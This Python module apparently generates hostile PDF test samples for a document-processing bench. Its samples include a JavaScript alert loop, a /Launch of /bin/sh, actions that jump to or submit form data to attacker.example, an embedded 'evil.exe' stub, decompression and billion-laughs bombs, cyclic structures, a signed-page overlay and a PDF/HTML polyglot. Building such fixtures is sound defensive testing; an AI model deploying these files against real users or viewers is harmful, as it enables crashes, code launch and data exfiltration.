"""Hostile PDF: what acts, what hides, what unpacks without end, what runs in circles."""

import zlib
from collections.abc import Callable, Mapping
from types import MappingProxyType

from anzhu.ops.bench.hostile import good
from anzhu.ops.bench.hostile.pictures import zeros

_MIB = 1024 * 1024
_CATALOGUE = "<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def pdf_of(*objects: str | bytes, trailer: str = "") -> bytes:
    """A PDF from the bodies of its objects; the first is the catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, said in enumerate(objects, start=1):
        offsets.append(len(body))
        text = said.encode("latin-1") if isinstance(said, str) else said
        body += f"{number} 0 obj\n".encode() + text + b"\nendobj\n"
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    end = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    end += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\n"
    return body + f"{end}startxref\n{len(body)}\n%%EOF\n".encode()


def stream(content: bytes, about: str = "") -> bytes:
    """An object with a stream; ``about`` are the other entries of its dictionary."""
    head = f"<< /Length {len(content)} {about} >>\nstream\n".encode()
    return head + content + b"\nendstream"


def _page(more: str) -> str:
    return _PAGE.replace(" >>", f" {more} >>")


def pdf_script() -> bytes:
    script = "<< /S /JavaScript /JS (while (true) { app.alert('x'); }) >>"
    return pdf_of(_CATALOGUE.replace(" >>", " /OpenAction 4 0 R >>"), _PAGES, _PAGE, script)


def pdf_launch() -> bytes:
    page = _page("/AA << /O 4 0 R >>")
    return pdf_of(_CATALOGUE, _PAGES, page, "<< /S /Launch /F (/bin/sh) >>")


def pdf_goes_elsewhere() -> bytes:
    away = "<< /S /GoToR /F (//attacker.example/share/x.pdf) /D [0 /Fit] >>"
    return pdf_of(_CATALOGUE.replace(" >>", " /OpenAction 4 0 R >>"), _PAGES, _PAGE, away)


def pdf_sends_a_form() -> bytes:
    send = "<< /S /SubmitForm /F << /FS /URL /F (http://attacker.example/) >> /Flags 4 >>"
    return pdf_of(_CATALOGUE.replace(" >>", " /OpenAction 4 0 R >>"), _PAGES, _PAGE, send)


def pdf_xfa() -> bytes:
    form = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
    catalogue = _CATALOGUE.replace(" >>", " /AcroForm << /Fields [] /XFA 4 0 R >> >>")
    return pdf_of(catalogue, _PAGES, _PAGE, stream(form))


def pdf_with_a_file_inside() -> bytes:
    names = " /Names << /EmbeddedFiles << /Names [(evil.exe) 4 0 R] >> >> >>"
    spec = "<< /Type /Filespec /F (evil.exe) /EF << /F 5 0 R >> >>"
    inside = stream(b"MZ" + bytes(5000), "/Type /EmbeddedFile")
    return pdf_of(_CATALOGUE.replace(" >>", names), _PAGES, _PAGE, spec, inside)


def pdf_locked() -> bytes:
    trailer = f"/Encrypt 4 0 R /ID [<{'00' * 16}> <{'00' * 16}>]"
    lock = f"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <{'11' * 32}> /U <{'22' * 32}> >>"
    return pdf_of(_CATALOGUE, _PAGES, _PAGE, lock, trailer=trailer)


def pdf_table_in_a_circle() -> bytes:
    data = pdf_of(_CATALOGUE, _PAGES, _PAGE)
    at = data.index(b"xref\n")
    return data.replace(b"/Root 1 0 R", f"/Root 1 0 R /Prev {at}".encode())


def pdf_pages_in_a_circle() -> bytes:
    pages = "<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 3 /Parent 2 0 R >>"
    return pdf_of(_CATALOGUE, pages, _PAGE)


def pdf_of_a_hundred_thousand_pages() -> bytes:
    pages = f"<< /Type /Pages /Kids [{'3 0 R ' * 100_000}] /Count 100000 >>"
    return pdf_of(_CATALOGUE, pages, _PAGE)


def pdf_that_claims_pages() -> bytes:
    return pdf_of(_CATALOGUE, _PAGES.replace("/Count 1", "/Count 2147483647"), _PAGE)


def pdf_of_a_huge_page() -> bytes:
    return pdf_of(_CATALOGUE, _PAGES, _PAGE.replace("595 842", "1000000000 1000000000"))


def pdf_of_no_page() -> bytes:
    return pdf_of(_CATALOGUE, _PAGES, _PAGE.replace("595 842", "0 0"))


def pdf_of_a_thread() -> bytes:
    return pdf_of(_CATALOGUE, _PAGES, _PAGE.replace("595 842", "1 100000"))


def pdf_overlaid() -> bytes:
    """An update behind the end that replaces the page that was signed."""
    first = pdf_of(_CATALOGUE, _PAGES, _page("/Contents 4 0 R"), stream(b"0 0 100 100 re f"))
    other = b"4 0 obj\n" + stream(b"1 0 0 rg 0 0 595 842 re f") + b"\nendobj\n"
    at, end = len(first), len(first) + len(other)
    table = f"xref\n4 1\n{at:010} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R "
    table += f"/Prev {first.rindex(b'xref', 0, first.rindex(b'startxref'))} >>\n"
    return first + other + f"{table}startxref\n{end}\n%%EOF\n".encode()


def pdf_of_packed_packings() -> bytes:
    """Flate in Flate in Flate: half a gigabyte of drawing."""
    packed = zlib.compress(zlib.compress(zeros(512 * _MIB), 9), 9)
    about = "/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    return pdf_of(_CATALOGUE, _PAGES, _page("/Contents 4 0 R"), stream(packed, about))


def pdf_of_packed_objects() -> bytes:
    """An object stream that unpacks to half a gigabyte."""
    packed = zeros(512 * _MIB)
    about = "/Type /ObjStm /N 1000000 /First 500000000 /Filter /FlateDecode"
    catalogue = _CATALOGUE.replace("/Pages 2 0 R", "/Pages 9 0 R")
    data = pdf_of(catalogue, _PAGES, _PAGE, stream(packed, about))
    return data.replace(b"/Size 5", b"/Size 10")


def pdf_of_a_flood() -> bytes:
    """A picture of 60,000 by 60,000 points in a page."""
    about = "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 "
    about += "/ColorSpace /DeviceRGB /Filter /FlateDecode"
    page = _page("/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>")
    draw = stream(b"500 0 0 500 0 0 cm /I Do")
    return pdf_of(_CATALOGUE, _PAGES, page, draw, stream(zeros(200 * _MIB), about))


def pdf_of_a_flood_in_jpeg() -> bytes:
    about = "/Type /XObject /Subtype /Image /Width 7000 /Height 7000 /BitsPerComponent 8 "
    about += "/ColorSpace /DeviceRGB /Filter /DCTDecode"
    page = _page("/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>")
    return pdf_of(
        _CATALOGUE, _PAGES, page, stream(b"500 0 0 500 0 0 cm /I Do"), stream(good.jpeg(), about)
    )


def pdf_that_draws_itself() -> bytes:
    about = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>"
    page = _page("/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>")
    return pdf_of(_CATALOGUE, _PAGES, page, stream(b"/F Do"), stream(b"/F Do /F Do", about))


def pdf_of_a_billion_laughs() -> bytes:
    """Nine forms, each drawing the next one ten times."""
    page = _page("/Contents 4 0 R /Resources << /XObject << /F 5 0 R >> >>")
    forms = []
    for number in range(5, 14):
        inner = f"/Resources << /XObject << /F {number + 1} 0 R >> >>" if number < 13 else ""
        about = f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] {inner}"
        draws = b"/F Do " * 10 if number < 13 else b"0 0 500 500 re f"
        forms.append(stream(draws, about))
    return pdf_of(_CATALOGUE, _PAGES, page, stream(b"/F Do"), *forms)


def pdf_of_endless_drawing() -> bytes:
    packed = zlib.compress(b"0 0 595 842 re 1 1 594 841 re f* " * 300_000, 9)
    draw = stream(packed, "/Filter /FlateDecode")
    return pdf_of(_CATALOGUE, _PAGES, _page("/Contents 4 0 R"), draw)


def pdf_of_brackets() -> bytes:
    return pdf_of(_CATALOGUE, _PAGES, _page(f"/Annots {'[' * 100_000}{']' * 100_000}"))


def pdf_and_html() -> bytes:
    return b"<html><body onload=alert(1)><!-- %PDF-1.7 -->" + pdf_of(_CATALOGUE, _PAGES, _PAGE)


def pdf_of_nothing() -> bytes:
    return b"%PDF-1.7 and then nothing"


CLASSES: Mapping[str, Callable[[], bytes]] = MappingProxyType(
    {
        one.__name__: one
        for one in (
            pdf_script, pdf_launch, pdf_goes_elsewhere, pdf_sends_a_form, pdf_xfa,
            pdf_with_a_file_inside, pdf_locked, pdf_table_in_a_circle, pdf_pages_in_a_circle,
            pdf_of_a_hundred_thousand_pages, pdf_that_claims_pages, pdf_of_a_huge_page,
            pdf_of_no_page, pdf_of_a_thread, pdf_overlaid, pdf_of_packed_packings,
            pdf_of_packed_objects, pdf_of_a_flood, pdf_of_a_flood_in_jpeg, pdf_that_draws_itself,
            pdf_of_a_billion_laughs, pdf_of_endless_drawing, pdf_of_brackets, pdf_and_html,
            pdf_of_nothing,
        )
    }
)  # fmt: skip
